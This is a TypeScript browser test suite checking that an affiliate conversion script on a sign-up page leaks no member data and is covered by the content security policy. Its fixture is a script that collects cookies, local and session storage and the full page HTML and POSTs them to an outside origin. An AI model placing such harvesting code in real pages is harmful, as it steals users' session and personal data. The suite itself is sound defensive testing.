import { createServer, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { afterAll, beforeEach, describe, expect, test } from 'vitest';
import { authJa } from '#shared/messages/auth.ja.ts';
import { layoutJa } from '#shared/messages/layout.ja.ts';
import { partsJa } from '#shared/messages/parts.ja.ts';
import { setStage } from '#tests/setup/browser/stage.ts';
import { isTwin } from '#tests/setup/world/host-process.ts';

const SCRIPT = '/conversion.js';
/**
 * An affiliate's script in the page. It sets a flag, requests an image, and sends everything that a script can read in
 * the page.
 */
const conversion = (origin: string) => `
  window.converted = true;
  const all = JSON.stringify([location.href, document.referrer, history.state, {...localStorage}, {...sessionStorage},
    document.cookie, document.documentElement.outerHTML, performance.getEntries().map(({ name }) => name)]);
  new Image().src = '${origin}/picture';
  fetch('${origin}/call', { method: 'POST', body: all, mode: 'no-cors', keepalive: true });
`;

const bodyOf = async (request: IncomingMessage): Promise<string> => {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
};

type Asked = { path: string; referer: string | undefined; body: string };
const asked: Asked[] = [];
/** An affiliate's server on its own origin; it records the requests. */
const affiliate = createServer(async (request, response) => {
  asked.push({ path: request.url ?? '', referer: request.headers.referer, body: await bodyOf(request) });
  const { port } = affiliate.address() as AddressInfo;
  response.writeHead(200, { 'content-type': 'text/javascript', 'cache-control': 'no-store' });
  response.end(request.url === SCRIPT ? conversion(`http://localhost:${port}`) : '');
});
const listening = new Promise<string>((done) => {
  affiliate.listen(0, 'localhost', () => done(`http://localhost:${(affiliate.address() as AddressInfo).port}`));
});
beforeEach(() => {
  asked.length = 0;
});
afterAll(() => void affiliate.close());

const signUp = async (page: Page, email: string): Promise<string> => {
  // Reads the response before the page gets it. After the page has moved on, the browser no longer has the response's
  // body.
  const answered = Promise.withResolvers<{ id: string }>();
  await page.route('**/api/auth', async (route) => {
    const response = await route.fetch();
    answered.resolve((await response.json()) as { id: string });
    await route.fulfill({ response });
  });
  await page.goto('/signup');
  await page.getByLabel(authJa.fields.email).fill(email);
  await page.getByLabel(authJa.fields.password, { exact: true }).fill('asagiri-no-michi');
  await page.getByLabel(authJa.fields.passwordConfirmation).fill('asagiri-no-michi');
  await page.getByRole('radio', { name: '女性' }).check();
  for (const box of await page.getByRole('checkbox').all()) await box.check();
  await page.getByRole('button', { name: authJa.signUp.submit }).click();
  const { id } = await answered.promise;
  await page.waitForURL('**/login?send_mail=true');
  await page.getByText(authJa.signIn.mailSent).waitFor();
  return id;
};
const policyOf = async (origin: string, path: string): Promise<string> =>
  (await fetch(`${origin}${path}`)).headers.get('content-security-policy') ?? '';
const scriptsElsewhere = (page: Page) =>
  page.evaluate(() =>
    [...document.scripts].map(({ src }) => src).filter((src) => src && !src.startsWith(location.origin)),
  );
const mark = (page: Page) => page.evaluate(() => 'converted' in window);
const servicePageIn = async (page: Page): Promise<(string | null)[]> => {
  await page.goto('/home');
  await page.getByRole('button', { name: partsJa.menu }).click();
  const links = page.getByRole('dialog').getByRole('link', { name: layoutJa.external.service });
  await page.getByRole('dialog').getByRole('link', { name: layoutJa.menu.home }).waitFor();
  return links.evaluateAll((all) => all.map((link) => link.getAttribute('href')));
};

// Not on the twin (tools/twin, which simulates AWS): the twin runs the stage `dev` of infra/stages.ts, which has
// neither an affiliate nor a service page.
describe.skipIf(isTwin)('a stage with an affiliate and a service page', () => {
  const stage = setStage('affiliate', async () => ({
    STAGE_SETTINGS: JSON.stringify({
      affiliateScript: `${await listening}${SCRIPT}`,
      servicePage: 'https://about.awai.example/',
    }),
  }));

  test('runs the script once after a sign-up, passes on nothing about a member, and removes it', async () => {
    const origin = await listening;
    const { page } = await stage.visit({ expects: [new RegExp(`^request to ${origin}$`)] });
    const email = 'hana.counted@example.com';
    const id = await signUp(page, email);
    expect(await mark(page)).toBe(false);
    expect(await scriptsElsewhere(page)).toEqual([]);
    await expect.poll(() => asked.map(({ path }) => path).sort()).toEqual(['/call', SCRIPT, '/picture']);
    expect(asked.map(({ referer }) => referer)).toEqual([undefined, undefined, undefined]);
    const told = JSON.stringify(asked);
    expect(told).toContain('/after_sign_up');
    for (const secret of [id, email, email.replace('@', '%40'), 'asagiri-no-michi']) expect(told).not.toContain(secret);
  });

  test('does not run the script for a signed-in member', async () => {
    const { page } = await stage.visit({ as: 'mika' });
    await page.goto('/after_sign_up');
    await page.waitForURL((url) => url.pathname !== '/after_sign_up');
    expect(asked).toEqual([]);
  });

  test("names its origin in the policy of members' pages", async () => {
    const origin = await listening;
    const policy = await policyOf(stage.service.origin, '/after_sign_up');
    const naming = policy.split('; ').filter((directive) => directive.split(' ').includes(origin));
    expect(naming.map((directive) => directive.split(' ')[0])).toEqual(['script-src', 'img-src', 'connect-src']);
  });

  test('links to the service page in the menu', async () => {
    const { page } = await stage.visit({ as: 'mika' });
    expect(await servicePageIn(page)).toEqual(['https://about.awai.example/']);
  });
});

describe('a stage without', () => {
  const stage = setStage('no-affiliate');

  test('sends nothing to others after a sign-up, and has no such script, policy or link', async () => {
    const { page } = await stage.visit();
    await signUp(page, 'hana.uncounted@example.com');
    expect([await mark(page), await scriptsElsewhere(page), asked]).toEqual([false, [], []]);
    const policy = await policyOf(stage.service.origin, '/after_sign_up');
    expect(policy).toMatch(/script-src 'self' 'sha256-[^ ;]+';/);
    expect(policy).not.toContain(await listening);
    const member = await stage.visit({ as: 'mika' });
    expect(await servicePageIn(member.page)).toEqual([]);
  });
});
